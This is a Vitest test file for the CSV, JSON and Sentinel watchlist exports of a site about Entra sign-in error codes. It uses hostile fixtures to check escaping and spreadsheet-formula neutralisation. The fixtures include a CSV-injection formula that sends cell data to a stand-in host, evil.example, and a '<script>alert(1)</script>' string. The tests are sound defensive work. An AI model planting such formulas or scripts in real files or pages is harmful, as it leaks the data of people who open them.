/** The API and CSV documents built from a catalogue whose fields hold commas, quotes, line breaks, markup and non-ASCII text. */
import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { codeDetail, codeSources, codeSummary, csvRow, watchlistRow } from '../../src/lib/publish/api.ts';
import { parseCatalog } from '../../src/lib/catalog/catalog-file.ts';
import type { Catalog, CodeListing } from '../../src/lib/catalog/catalog.ts';
import { neutraliseCell, toCsv, UTF8_BOM } from '../../src/lib/publish/csv.ts';
import { listing } from '../../src/lib/catalog/listing.ts';
import { CodeDetailSchema, CodeSummarySchema, CSV_COLUMNS, WATCHLIST_COLUMNS } from '../../src/schemas/api.ts';

const site = new URL('https://atlas.test/');
const { rows, problems } = parseCatalog(readFileSync('tests/fixtures/hostile/catalog.tsv', 'utf8'));

/** A written guide whose words would break a naive CSV or JSON writer. */
const guide = {
  id: '90001',
  data: {
    title: 'Sign-in "stopped", then\nrestarted, Ünïcödé ✓',
    summary: 'Line one, with a comma;\r\nline two with "quotes" and a tab\tinside — 認証.',
    message: 'AADSTS90001: The app "Contoso, Ltd." said: ""hi"", then stopped.',
    name: 'Quoted_Name',
    category: 'service',
    audiences: ['user', 'admin'],
    signal: { kind: 'security-relevant', detection: 'Many "failures", then one success.', kql: 'SigninLogs\n| where ResultType == "90001"' },
    causes: [{ id: 'first-cause' }],
    related: [{ id: '90002' }],
    otherCodes: [],
    collect: ['Request ID'],
    sources: ['https://learn.microsoft.com/entra/identity-platform/reference-error-codes'],
    reviewed: new Date('2026-02-03T00:00:00Z'),
    needsReview: 'Confirm the "second" step, please.',
  },
};

const cause = { id: 'first-cause', data: { title: 'A cause, "quoted"', summary: 'Why, and how — 理由.', fixes: [{ id: 'missing-fix' }, { id: 'a-fix' }] } };
const fix = { id: 'a-fix', data: { title: 'Do it, now', audience: 'admin', summary: 'Steps "here".' } };

const listings = rows.map((row) => listing(row, row.code === 90001 ? (guide as never) : undefined)) as CodeListing[];
const catalog = {
  causes: new Map([[cause.id, cause]]),
  fixes: new Map([[fix.id, fix]]),
  related: new Map([['90001', ['90002', '90003']]]),
} as unknown as Catalog;
const byCode = (code: number) => listings.find((entry) => entry.code === code)!;

describe('the hostile fixture catalogue', () => {
  it('parses without problems', () => {
    expect(problems).toEqual([]);
    expect(rows.map((row) => row.code)).toEqual([90001, 90002, 90003]);
  });
});

describe('codeSummary', () => {
  it('describes a guide from its front matter, with an absolute URL', () => {
    const summary = codeSummary(byCode(90001), site);
    expect(CodeSummarySchema.parse(summary)).toEqual({
      code: 90001,
      name: 'Quoted_Name',
      title: guide.data.title,
      summary: guide.data.summary,
      message: 'The app "Contoso, Ltd." said: ""hi"", then stopped.',
      category: 'service',
      audiences: ['user', 'admin'],
      signal: 'security-relevant',
      guide: true,
      confidence: null,
      url: 'https://atlas.test/codes/90001/',
    });
  });

  it('describes a code without a guide from the catalogue, newest wording first', () => {
    expect(codeSummary(byCode(90002), site)).toEqual({
      code: 90002,
      name: null,
      title: 'La connexion a échoué : « accès refusé », 認証に失敗しました — try again, "later"',
      summary: 'No guide is written for AADSTS90002 yet. This page gives Microsoft\'s message, where it is documented and what to collect for the helpdesk.',
      message: 'La connexion a échoué : « accès refusé », 認証に失敗しました — try again, "later".',
      category: 'application',
      audiences: ['developer'],
      signal: 'misconfiguration',
      guide: false,
      confidence: 'sure',
      url: 'https://atlas.test/codes/90002/',
    });
  });
});

describe('codeSources', () => {
  it('names a guide’s own sources', () => {
    expect(codeSources(byCode(90001))).toEqual(guide.data.sources);
  });

  it('names the reference table and the official lookup only for codes found there, and the sign-in log and support pages the first steps come from', () => {
    const inTable = listing({ ...rows[1], documentedIn: ['reference-table'] }, undefined) as CodeListing;
    expect(codeSources(inTable)).toEqual(['https://learn.microsoft.com/entra/identity-platform/reference-error-codes', 'https://learn.microsoft.com/entra/identity/monitoring-health/howto-troubleshoot-sign-in-errors', 'https://learn.microsoft.com/entra/identity/monitoring-health/howto-customize-filter-logs', 'https://learn.microsoft.com/entra/fundamentals/how-to-get-support']);
    expect(codeSources(byCode(90002))).toEqual(['https://login.microsoftonline.com/error?code=90002', 'https://learn.microsoft.com/entra/identity/monitoring-health/howto-troubleshoot-sign-in-errors', 'https://learn.microsoft.com/entra/identity/monitoring-health/howto-customize-filter-logs', 'https://learn.microsoft.com/entra/fundamentals/how-to-get-support']);
  });

  it('names the public list a message known only from the sign-in log list was read from', () => {
    const inLogList = listing({ ...rows[1], documentedIn: ['log-list-2025'] }, undefined) as CodeListing;
    expect(codeSources(inLogList)[0]).toBe('https://github.com/f-bader/EntraID-ErrorCodes');
  });
});

describe('codeDetail', () => {
  it('gives a guide’s signal, causes with their fixes in order, related codes, review note and date', () => {
    const detail = CodeDetailSchema.parse(codeDetail(byCode(90001), catalog, site));
    expect(detail).toMatchObject({
      schemaVersion: 2,
      code: 90001,
      signal: { kind: 'security-relevant', detection: guide.data.signal.detection, kql: guide.data.signal.kql },
      documentedIn: ['reference-table', 'lookup-2022'],
      fullDepth: false,
      needsReview: 'Confirm the "second" step, please.',
      related: [90002, 90003],
      sources: guide.data.sources,
      reviewed: '2026-02-03',
    });
    // A reference that does not resolve is left out rather than breaking the document.
    expect(detail.causes).toEqual([
      {
        slug: 'first-cause',
        title: 'A cause, "quoted"',
        summary: 'Why, and how — 理由.',
        url: 'https://atlas.test/causes/first-cause/',
        fixes: [{ slug: 'a-fix', title: 'Do it, now', audience: 'admin', summary: 'Steps "here".', url: 'https://atlas.test/fixes/a-fix/' }],
      },
    ]);
  });

  it('says a guide is in full depth when it is', () => {
    const deep = { ...guide, data: { ...guide.data, causes: [{ id: 'first-cause' }, { id: 'other' }] } };
    expect(codeDetail(listing(rows[0], deep as never) as CodeListing, catalog, site).fullDepth).toBe(true);
  });

  it('gives a code without a guide no causes, no signal details and no review date', () => {
    const detail = CodeDetailSchema.parse(codeDetail(byCode(90003), catalog, site));
    expect(detail).toMatchObject({
      guide: false,
      signal: { kind: 'benign', detection: null, kql: null },
      fullDepth: false,
      needsReview: null,
      causes: [],
      related: [],
      sources: ['https://learn.microsoft.com/entra/identity/monitoring-health/howto-troubleshoot-sign-in-errors', 'https://learn.microsoft.com/entra/identity/monitoring-health/howto-customize-filter-logs', 'https://learn.microsoft.com/entra/fundamentals/how-to-get-support'],
      reviewed: null,
    });
  });

  it('survives a round trip through JSON unchanged', () => {
    for (const entry of listings) {
      const detail = codeDetail(entry, catalog, site);
      expect(JSON.parse(JSON.stringify(detail))).toEqual(detail);
    }
  });
});

describe('the CSV', () => {
  const csv = toCsv(CSV_COLUMNS, listings.map((entry) => csvRow(codeSummary(entry, site))), { bom: true });
  const read = () => parse(csv, { record_delimiter: '\r\n', bom: true }) as string[][];

  it('reads back through a CSV parser as exactly the fields written, one record per code', () => {
    const records = read();
    expect(records[0]).toEqual([...CSV_COLUMNS]);
    expect(records.slice(1)).toEqual(
      listings.map((entry) => {
        const summary = codeSummary(entry, site);
        return [String(summary.code), summary.name ?? '', summary.title, summary.message, summary.category ?? '', summary.signal ?? '', String(summary.guide), summary.url, summary.confidence ?? ''];
      }),
    );
    // The guide's title and message hold a line break, quotes and commas; the parser must see them inside one field.
    expect(records[1][2]).toBe('Sign-in "stopped", then\nrestarted, Ünïcödé ✓');
  });

  it('quotes every field, doubles quotes and ends every line with CRLF', () => {
    expect(toCsv(['a', 'b'], [['say "hi", then', null], [42, 'ü\n']])).toBe('"a","b"\r\n"say ""hi"", then",""\r\n"42","ü\n"\r\n');
  });

  it('writes the columns in the declared order, the guide flag as text', () => {
    expect(csvRow(codeSummary(byCode(90003), site))).toEqual([90003, null, '<script>alert(1)</script> & <b>bold</b>', '<script>alert(1)</script> & <b>bold</b>', 'service', 'benign', 'false', 'https://atlas.test/codes/90003/', 'sure']);
  });

  it('opens in Excel with its non-ASCII letters intact', () => {
    // Excel reads a CSV as UTF-8 only when it starts with a byte-order mark; otherwise in the legacy code page.
    const bytes = new TextEncoder().encode(csv);
    const excel = (data: Uint8Array) => (data[0] === 0xef && data[1] === 0xbb && data[2] === 0xbf ? new TextDecoder('utf-8').decode(data) : new TextDecoder('windows-1252').decode(data));
    const opened = parse(excel(bytes), { record_delimiter: '\r\n' }) as string[][];
    expect(opened[0][0]).toBe('code');
    expect(opened.find((record) => record[0] === '90002')![2]).toBe('La connexion a échoué : « accès refusé », 認証に失敗しました — try again, "later"');
    expect(csv.startsWith(UTF8_BOM)).toBe(true);
  });
});

describe('CSV cells a spreadsheet would evaluate', () => {
  const FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A2,"Click")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', '=1\n=2'];

  it.each(FORMULAS)('neutralises %j with a leading quote, and reads back as written otherwise', (formula) => {
    const text = toCsv(['title'], [[formula]]);
    expect(text).toBe(`"title"\r\n"'${formula.replace(/"/g, '""')}"\r\n`);
    const [, [cell]] = parse(text, { record_delimiter: '\r\n' }) as string[][];
    expect(cell).toBe(`'${formula}`);
  });

  it('leaves every other cell as it is, including a formula sign later in the text and negative-looking numbers', () => {
    for (const text of ['Sign-in = failed', ' =1', "'already quoted", 'AADSTS50126', '']) expect(neutraliseCell(text)).toBe(text);
    expect(neutraliseCell(50126)).toBe('50126');
    expect(neutraliseCell(null)).toBe('');
  });

  it('neutralises a hostile title in the published rows', () => {
    const hostile = { ...guide, data: { ...guide.data, title: '=HYPERLINK("https://evil.example/?leak="&A2,"Open")' } };
    const summary = codeSummary(listing(rows[0], hostile as never) as CodeListing, site);
    const [, record] = parse(toCsv(CSV_COLUMNS, [csvRow(summary)]), { record_delimiter: '\r\n' }) as string[][];
    expect(record[2]).toBe(`'${hostile.data.title}`);
  });
});

describe('the Sentinel watchlist', () => {
  it('has one row per code with the code first, to be chosen as the SearchKey', () => {
    const text = toCsv(WATCHLIST_COLUMNS, listings.map((entry) => watchlistRow(codeSummary(entry, site))));
    const records = parse(text, { record_delimiter: '\r\n' }) as string[][];
    expect(records[0]).toEqual(['Code', 'Name', 'Title', 'Category', 'Signal', 'Confidence', 'Url']);
    expect(records[3]).toEqual(['90003', '', '<script>alert(1)</script> & <b>bold</b>', 'service', 'benign', 'sure', 'https://atlas.test/codes/90003/']);
    expect(records.slice(1).map((record) => record[0])).toEqual(['90001', '90002', '90003']);
  });
});
